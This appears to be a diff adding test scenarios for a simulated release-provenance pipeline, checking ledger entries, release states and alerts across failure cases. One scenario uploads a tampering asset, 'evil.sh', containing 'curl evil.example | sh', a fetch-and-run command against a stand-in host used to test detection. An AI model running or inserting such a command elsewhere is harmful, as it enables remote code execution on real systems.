@@ -1,0 +1,312 @@
+// The rehearsal's scenarios (issue 15 item 5): each builds a fresh world, acts as people and
+// GitHub would, lets every triggered run finish, and reads the outcome from the remote ledger
+// branch, the GitHub stand-in (releases, issues) and the Slack receiver.
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Json } from './expr.js';
+import type { RunRecord } from './runner.js';
+import type { World, WorldOptions } from './world.js';
+
+export interface ScenarioOutcome {
+  readonly scenario: string;
+  readonly entry: string;
+  readonly release: string;
+  readonly slack: number;
+  readonly issues: number;
+  readonly ingested: string;
+  readonly passed: boolean;
+  /** what was expected and not seen */
+  readonly problems: readonly string[];
+  /** notable refusals GitHub (the stand-in) answered */
+  readonly refusals: readonly string[];
+  readonly runs: readonly string[];
+}
+
+export interface Scenario {
+  readonly name: string;
+  readonly summary: string;
+  readonly world: (ctx: { databaseUrl?: string }) => WorldOptions;
+  readonly act: (world: World) => Promise<void>;
+  readonly expect: (r: Observed) => string[];
+}
+
+export interface Observed {
+  readonly world: World;
+  readonly entries: Record<string, Json>[];
+  entry(tag: string): Record<string, Json> | undefined;
+  releaseState(tag: string): string;
+  readonly slack: number;
+  readonly issues: string[];
+  readonly ingested: number | undefined;
+  readonly ledgerBranch: string;
+}
+
+const ledgerBranch = 'slsa-ledger';
+
+function describeEntry(e: Record<string, Json> | undefined): string {
+  if (e === undefined) return 'no entry';
+  const v = e.validation as { status?: string } | null | undefined;
+  const n = (e.metrics as { notify?: { delivered?: number } } | undefined)?.notify;
+  return `${typeof e.status === 'string' ? e.status : '?'}/${typeof e.governance_flag === 'string' ? e.governance_flag : '?'}${v?.status ? ` validation ${v.status}` : ''}${n ? ` notify ${n.delivered ?? 0}` : ''}`;
+}
+
+const expectValidated =
+  (tag: string) =>
+  (r: Observed): string[] => {
+    const e = r.entry(tag);
+    const out: string[] = [];
+    if (e?.status !== 'success') out.push(`${tag}: expected status success, got ${describeEntry(e)}`);
+    const v = e?.validation as { status?: string } | undefined;
+    if (v?.status !== 'passed')
+      out.push(`${tag}: expected a passed validation verdict, got ${describeEntry(e)}`);
+    if (r.releaseState(tag) !== 'published')
+      out.push(`${tag}: expected the release published, got ${r.releaseState(tag)}`);
+    return out;
+  };
+
+export const scenarios: readonly Scenario[] = [
+  {
+    name: 'clean-release',
+    summary:
+      'a tag push → draft → build → generator provenance → upload → record → publish → validate → ingest',
+    world: ({ databaseUrl }) => ({
+      ...(databaseUrl === undefined ? {} : { databaseUrl }),
+      rotatedAt: '2026-10-01T00:00:00Z',
+    }),
+    act: async (w) => {
+      await w.pushTag('v1.0.0');
+      await w.settle();
+      await w.schedule('manifest-ingest.yml');
+      await w.settle();
+    },
+    expect: (r) => {
+      const out = expectValidated('v1.0.0')(r);
+      if (r.issues.length > 0) out.push(`expected no issue, got ${r.issues.join('; ')}`);
+      if (r.slack < 1) out.push('expected the provenance-ready Slack message');
+      const m = r.entry('v1.0.0')?.metrics as Record<string, Json> | undefined;
+      if (m?.dispatch_token_rotated_at !== '2026-10-01T00:00:00Z')
+        out.push('expected metrics.dispatch_token_rotated_at from the variable');
+      if ((m?.notify as { delivered?: number } | undefined)?.delivered !== 1)
+        out.push('expected metrics.notify.delivered 1');
+      if (r.ingested !== undefined && r.ingested < 1) out.push('expected the entry ingested into Postgres');
+      return out;
+    },
+  },
+  {
+    name: 'missing-artifact',
+    summary: 'the build leaves no artifacts: a failure entry, an alert, the release stays a draft',
+    world: () => ({ makefile: 'dist:\n\tmkdir -p dist\n\t@echo "build produced nothing"\n.PHONY: dist\n' }),
+    act: async (w) => {
+      await w.pushTag('v1.0.0');
+      await w.settle();
+    },
+    expect: (r) => {
+      const out: string[] = [];
+      const e = r.entry('v1.0.0');
+      if (e?.status !== 'failure' || e.governance_flag !== 'artifact-missing')
+        out.push(`expected failure/artifact-missing, got ${describeEntry(e)}`);
+      if (r.releaseState('v1.0.0') !== 'draft')
+        out.push(`expected the release to stay a draft, got ${r.releaseState('v1.0.0')}`);
+      if (!r.issues.some((i) => i.includes('provenance-failure for v1.0.0')))
+        out.push('expected a provenance-failure issue for v1.0.0');
+      return out;
+    },
+  },
+  {
+    name: 'refused-push-then-flush',
+    summary:
+      'a ruleset refuses GITHUB_TOKEN on the ledger branch: the entry queues and alerts; an App bypass later lets the hourly flush land it',
+    world: () => ({
+      extraRulesets: [{ branches: [ledgerBranch], bypassApps: ['slsa-ledger-writer'], bypassAdmins: false }],
+    }),
+    act: async (w) => {
+      await w.pushTag('v1.0.0');
+      await w.settle();
+      // the documented fix: the ruleset stays, the writers use the App's installation token —
+      // here the ruleset is lifted for the hourly flush instead (GITHUB_TOKEN cannot be a bypass actor)
+      w.api.repo.rulesets = w.api.repo.rulesets.filter((x) => !x.branches.includes(ledgerBranch));
+      await w.schedule('manifest-ingest.yml');
+      await w.settle();
+      // the runbook (docs/ops/failure-recovery.md): once the entry has landed, validate again
+      const res = await fetch(
+        `${w.api.url}/repos/${w.api.fullName}/actions/workflows/provenance-validate.yml/dispatches`,
+        {
+          method: 'POST',
+          headers: { authorization: `token ${w.userToken}`, 'content-type': 'application/json' },
+          body: JSON.stringify({ ref: w.defaultBranch, inputs: { tag: 'v1.0.0' } }),
+        },
+      );
+      if (res.status !== 204) throw new Error(`the re-validation dispatch was refused: ${res.status}`);
+      await w.settle();
+    },
+    expect: (r) => {
+      const out: string[] = [];
+      const e = r.entry('v1.0.0');
+      if (e?.status !== 'success')
+        out.push(`expected the queued entry landed by flush, got ${describeEntry(e)}`);
+      if ((e?.validation as { status?: string } | undefined)?.status !== 'passed')
+        out.push(`expected the re-validation to pass, got ${describeEntry(e)}`);
+      if (!r.issues.some((i) => i.includes('manifest-queued for v1.0.0')))
+        out.push('expected a manifest-queued issue');
+      if (!r.world.pushRefusals.some((x) => x.includes('GH013')))
+        out.push('expected the ruleset to refuse a GITHUB_TOKEN push');
+      return out;
+    },
+  },
+  {
+    name: 'expired-dispatch-token',
+    summary: 'the dispatch PAT (an environment secret) has expired: a dispatch-token-expired entry and issue',
+    world: () => ({ rotatedAt: '2026-01-02T00:00:00Z' }),
+    act: async (w) => {
+      w.secrets.PROVENANCE_DISPATCH_TOKEN = w.api.issueToken({
+        kind: 'pat',
+        login: 'release-manager',
+        permissions: { actions: 'write', contents: 'read' },
+        expiresAt: new Date(Date.now() - 86_400_000),
+      });
+      await w.pushTag('v1.0.0');
+      await w.settle();
+    },
+    expect: (r) => {
+      const out: string[] = [];
+      const e = r.entry('v1.0.0');
+      if (e?.status !== 'failure' || e.governance_flag !== 'dispatch-token-expired')
+        out.push(`expected failure/dispatch-token-expired, got ${describeEntry(e)}`);
+      if (!r.issues.some((i) => i.includes('dispatch-token-expired for v1.0.0')))
+        out.push('expected a dispatch-token-expired issue');
+      if (
+        (e?.metrics as Record<string, Json> | undefined)?.dispatch_token_rotated_at !== '2026-01-02T00:00:00Z'
+      )
+        out.push('expected the rotation date in metrics');
+      return out;
+    },
+  },
+  {
+    name: 'failed-validation',
+    summary:
+      'someone adds an asset to the draft after the upload: validation fails, the verdict is recorded, an issue opens',
+    world: () => ({}),
+    act: async (w) => {
+      w.hooks.beforeJob = async (run, jobId) => {
+        if (run.name !== 'slsa-provenance' || jobId !== 'publish') return;
+        const release = w.api.releases.find((x) => x.tag_name === 'v1.0.0');
+        if (release === undefined) return;
+        const res = await fetch(
+          `${w.api.url}/repos/${w.api.fullName}/releases/${release.id}/assets?name=evil.sh`,
+          {
+            method: 'POST',
+            headers: { authorization: `token ${w.userToken}`, 'content-type': 'application/octet-stream' },
+            body: 'curl evil.example | sh\n',
+          },
+        );
+        if (res.status !== 201) throw new Error(`the outsider's upload was refused: ${res.status}`);
+      };
+      await w.pushTag('v1.0.0');
+      await w.settle();
+    },
+    expect: (r) => {
+      const out: string[] = [];
+      const e = r.entry('v1.0.0');
+      const v = e?.validation as { status?: string } | undefined;
+      if (v?.status !== 'failed')
+        out.push(`expected a failed validation verdict in the entry, got ${describeEntry(e)}`);
+      if (!r.issues.some((i) => i.includes('validation-failed for v1.0.0')))
+        out.push('expected a validation-failed issue');
+      return out;
+    },
+  },
+  {
+    name: 'second-release-during-first',
+    summary: 'two tags pushed at once: both runs record under the concurrency group, nothing is cancelled',
+    world: () => ({}),
+    act: async (w) => {
+      await Promise.all([w.pushTag('v1.0.0'), w.pushTag('v1.1.0')]);
+      await w.settle();
+    },
+    expect: (r) => {
+      const out = [...expectValidated('v1.0.0')(r), ...expectValidated('v1.1.0')(r)];
+      if (r.world.concurrency.cancelled.length > 0)
+        out.push(`a pending ledger writer was cancelled: ${r.world.concurrency.cancelled.join('; ')}`);
+      return out;
+    },
+  },
+  {
+    name: 'rerun-failed-job',
+    summary:
+      'a flaky build fails once; `gh run rerun --failed` re-runs it (artifacts overwritten) and the entry turns success',
+    // the build runs a script in the runner's home: it fails the first time only
+    world: () => ({ makefile: 'dist:\n\tsh "$$HOME/flaky.sh"\n.PHONY: dist\n' }),
+    act: async (w) => {
+      const marker = join(w.home, 'flaky-once');
+      writeFileSync(
+        join(w.home, 'flaky.sh'),
+        `if [ ! -e '${marker}' ]; then touch '${marker}'; echo 'flaky: network hiccup' >&2; exit 1; fi\nmkdir -p dist && echo app > dist/app.txt\n`,
+      );
+      await w.pushTag('v1.0.0');
+      await w.settle();
+      const failed = w.runs.find(
+        (x: RunRecord) => x.name === 'slsa-provenance' && x.conclusion === 'failure',
+      );
+      if (failed === undefined) throw new Error('the first attempt did not fail');
+      await w.rerunFailed(failed);
+      await w.settle();
+    },
+    expect: (r) => {
+      const out = expectValidated('v1.0.0')(r);
+      return out;
+    },
+  },
+  {
+    name: 'default-branch-master',
+    summary: 'a fresh repository whose default branch is master (protected), immutable releases',
+    world: () => ({ defaultBranch: 'master' }),
+    act: async (w) => {
+      await w.pushTag('v1.0.0');
+      await w.settle();
+    },
+    expect: (r) => {
+      const out = expectValidated('v1.0.0')(r);
+      if (r.world.git(['rev-parse', '--verify', '--quiet', 'refs/heads/main'], r.world.bare, true).code === 0)
+        out.push('a main branch appeared');
+      return out;
+    },
+  },
+  {
+    name: 'private-repository',
+    summary:
+      'init --private: attest-build-provenance on GitHub’s own Sigstore; nothing reaches the public log',
+    world: () => ({ private: true, initArgs: ['--private'] }),
+    act: async (w) => {
+      await w.pushTag('v1.0.0');
+      await w.settle();
+    },
+    expect: (r) => {
+      const out = expectValidated('v1.0.0')(r);
+      const publicLog = r.world.publicSigstore.requests.filter(
+        (p) => p.includes('/api/v1/log/entries') || p.includes('/api/v2/log/entries'),
+      );
+      if (publicLog.length > 0) out.push(`the public log received ${publicLog.length} entr(ies)`);
+      if (r.world.attestations.length === 0) out.push('expected an attestation in GitHub’s store');
+      return out;
+    },
+  },
+  {
+    name: 'no-slack-no-database',
+    summary:
+      'neither SLACK_WEBHOOK_URL nor a database: their steps are skipped with a notice, everything else works',
+    world: () => ({ slack: false }),
+    act: async (w) => {
+      await w.pushTag('v1.0.0');
+      await w.settle();
+      await w.schedule('manifest-ingest.yml');
+      await w.settle();
+    },
+    expect: (r) => {
+      const out = expectValidated('v1.0.0')(r);
+      const ingest = r.world.runs.find((x) => x.name === 'manifest-ingest');
+      if (ingest?.conclusion !== 'success')
+        out.push(`expected manifest-ingest to succeed with a notice, got ${ingest?.conclusion ?? 'no run'}`);
+      return out;
+    },
+  },
+];
